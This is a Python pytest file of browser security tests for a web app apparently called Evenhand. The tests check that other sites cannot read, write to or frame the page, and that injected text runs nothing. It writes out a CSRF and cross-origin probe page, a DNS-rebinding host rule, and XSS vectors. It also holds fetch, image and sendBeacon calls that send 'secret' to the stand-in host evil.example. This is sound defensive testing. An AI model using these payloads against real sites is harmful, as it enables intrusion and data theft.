"""Other web sites and hostile texts against the page, in a real browser."""

import contextlib
import signal
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.browser.conftest import CHROMIUM_FLAGS, HOSTILE
from tests.browser.driving import (
    choose_writer,
    open_page,
    propose,
    propose_and_wait,
    wait_for_the_page,
    write_views,
)
from tests.support.patience import until
from tests.support.served import PASSWORD, password_file, serving
from ui.strings import say

pytestmark = pytest.mark.browser


@contextlib.contextmanager
def site(html: str) -> Iterator[str]:
    """Another web site on this computer: the nearest that an attacker can come without being let in."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://localhost:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


ATTACK = """<!doctype html><title>a game</title>
<iframe id="frame" src="APP"></iframe>
<form id="form" method="post" action="APPgradio_api/run/predict" enctype="text/plain" target="answer">
<input name='{"data":[],"fn_index":0,"x":"' value='"}'></form><iframe name="answer"></iframe>
<script>
window.found = {};
async function ask(name, promise) {
  try { const answer = await promise; window.found[name] = await answer.text() || answer.type; }
  catch (error) { window.found[name] = "refused"; }
}
const json = {"Content-Type": "application/json"};
Promise.all([
  ask("read", fetch("APPconfig")),
  ask("read with cookies", fetch("APPconfig", {credentials: "include"})),
  ask("write", fetch("APPgradio_api/run/predict", {method: "POST", headers: json, body: "{}"})),
  ask("write blindly", fetch("APPgradio_api/run/predict", {method: "POST", mode: "no-cors", body: "{}"})),
  ask("script", new Promise((done, failed) => {
    const script = document.createElement("script");
    script.src = "APPtheme.css"; script.onload = () => done(new Response("loaded")); script.onerror = failed;
    document.head.append(script);
  })),
  ask("picture", new Promise((done, failed) => {
    const picture = new Image();
    picture.onload = () => done(new Response("loaded")); picture.onerror = failed; picture.src = "APPfavicon.ico";
  })),
  ask("socket", new Promise((done, failed) => {
    const socket = new WebSocket("APPgradio_api/queue/join".replace("http", "ws"));
    socket.onopen = () => done(new Response("open")); socket.onerror = failed;
  })),
]).then(() => { document.getElementById("form").submit(); window.done = true; });
</script>"""


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_another_site_reads_nothing_writes_nothing_and_frames_nothing(browser, app, name):
    target = app.url.replace("127.0.0.1", name) + "/"
    with site(ATTACK.replace("APP", target)) as address:
        context = browser.new_context()
        page = context.new_page()
        statuses: dict[str, int] = {}
        page.on("response", lambda answer: statuses.setdefault(answer.url.removeprefix(target), answer.status))
        page.goto(address)
        page.wait_for_function("() => window.done")
        page.wait_for_timeout(1500)
        found = page.evaluate("() => window.found")
        # What was sent blindly gets an answer that the site cannot read; the status is what the app said.
        assert found.pop("write blindly") in ("opaque", "refused")
        assert set(found.values()) == {"refused"}
        assert {status for path, status in statuses.items() if path.startswith("gradio_api")} <= {403, 415, 421}
        assert statuses.get("gradio_api/run/predict", 421) in (415, 421)
        framed = [frame for frame in page.frames[1:] if frame.url.startswith(target)]
        assert all(frame.query_selector("#eh-propose, gradio-app") is None for frame in framed)
        context.close()


def test_a_name_that_was_pointed_here_shows_nothing(browser, app, chromium):
    port = app.url.rpartition(":")[2]
    rules = "--host-resolver-rules=MAP rebind.example 127.0.0.1"
    own = browser.browser_type.launch(executable_path=chromium, args=[*CHROMIUM_FLAGS, rules])
    try:
        page = own.new_page()
        answer = page.goto(f"http://rebind.example:{port}/")
        assert answer.status == 421
        assert page.inner_text("body").strip() == "Evenhand does not answer under this name."
    finally:
        own.close()


def test_the_link_of_another_site_opens_the_page(browser, app):
    with site(f'<a href="{app.url}/">mediate</a>') as address:
        context = browser.new_context()
        page = context.new_page()
        page.goto(address)
        page.click("a")
        page.wait_for_selector("#eh-propose")
        context.close()


def test_hostile_text_in_every_field_runs_nothing(page):
    fields = page.locator("textarea:visible, input[type=text]:visible, input:not([type]):visible")
    written = 0
    for number in range(fields.count()):
        field = fields.nth(number)
        if field.is_editable() and field.get_attribute("role") != "combobox":
            field.fill(HOSTILE)
            field.blur()
            written += 1
    assert written >= 6
    choose_writer(page, "drafter")
    propose(page)
    page.wait_for_selector("#eh-cards .eh-card")
    for tab in page.get_by_role("tab").all():
        tab.click()
        page.wait_for_timeout(700)
    choose = page.get_by_role("tab").first
    choose.click()
    page.reload()
    page.wait_for_selector("#eh-propose")
    page.wait_for_timeout(1500)
    assert page.evaluate("() => window.hurt") is None
    assert page.locator("img[src=x]").count() == 0


def test_what_became_html_by_a_mistake_would_still_run_nothing(page):
    page.evaluate(
        """async () => {
          document.body.insertAdjacentHTML("beforeend", `
            <img src="data:," onerror="window.hurt = 1"><svg onload="window.hurt = 2"></svg>
            <iframe srcdoc="<script>parent.hurt = 3</script>"></iframe>
            <a id="bad" href="javascript:window.hurt = 4">x</a>
            <form id="away" action="https://evil.example/"><input name="text" value="secret"></form>
            <object data="https://evil.example/"></object>`);
          const script = document.createElement("script");
          script.textContent = "window.hurt = 5";
          document.body.append(script);
          const other = document.createElement("script");
          other.src = "data:text/javascript,window.hurt=6";
          document.body.append(other);
          document.getElementById("bad").click();
          document.getElementById("away").submit();
        }"""
    )
    for attempt in ("fetch('https://evil.example/?secret')", "new Image().src = 'https://evil.example/?secret'"):
        page.evaluate(f"() => {{ {attempt}.catch?.(() => 0) }}")
    page.evaluate("() => navigator.sendBeacon('https://evil.example/', 'secret')")
    page.wait_for_timeout(1000)
    assert page.evaluate("() => window.hurt") is None
    # The fixture fails this test if any of it was asked for elsewhere.


def test_the_page_itself_breaks_no_rule_of_its_own(browser, app):
    context = browser.new_context()
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda line: complaints.append(line.text) if "Policy" in line.text else None)
    open_page(page, app.url)
    for tab in page.get_by_role("tab").all():
        tab.click()
        page.wait_for_timeout(500)
    context.close()
    assert complaints == []


def test_logging_in(browser, tmp_path):
    with serving("--host", "0.0.0.0", "--password-file", str(password_file(tmp_path))) as served:
        context = browser.new_context(locale="de-DE")
        page = context.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(f"{served.url}/?session=0123456789abcdef0123456789abcdef")
        assert page.title() == "Bei Evenhand anmelden"
        assert page.get_by_label("Passwort").evaluate("field => field === document.activeElement")
        page.keyboard.type("not the password at all")
        page.keyboard.press("Enter")
        page.get_by_role("alert").wait_for()
        assert page.inner_text("[role=alert]") == "Das ist nicht das Passwort."
        assert not any("assets" in url or "config" in url for url in asked)
        page.get_by_label("Passwort").fill(PASSWORD)
        page.get_by_role("button").click()
        wait_for_the_page(page)
        assert "session=0123456789abcdef0123456789abcdef" in page.url
        assert page.evaluate("() => document.cookie") == ""
        cookie = context.cookies()[0]
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
        write_views(page)
        propose_and_wait(page, say("de", "mediate.done", seconds="", proposals="").partition("  ")[0])
        assert all(url.startswith((served.url, "data:", "blob:")) for url in asked)
        context.close()


def test_the_system_ends_the_app_and_what_is_being_written(browser, slow_server):
    with serving() as served:
        context = browser.new_context()
        page = open_page(context.new_page(), served.url)
        write_views(page)
        choose_writer(page, slow_server.spec("endless"))
        before = len(slow_server.hung_up)
        propose(page)
        page.wait_for_selector("#eh-live .eh-card")
        served.process.send_signal(signal.SIGTERM)
        assert served.process.wait(timeout=60) == 0, served.log.read_text()
        until(lambda: len(slow_server.hung_up) > before)
        assert "Traceback" not in served.log.read_text()
        context.close()
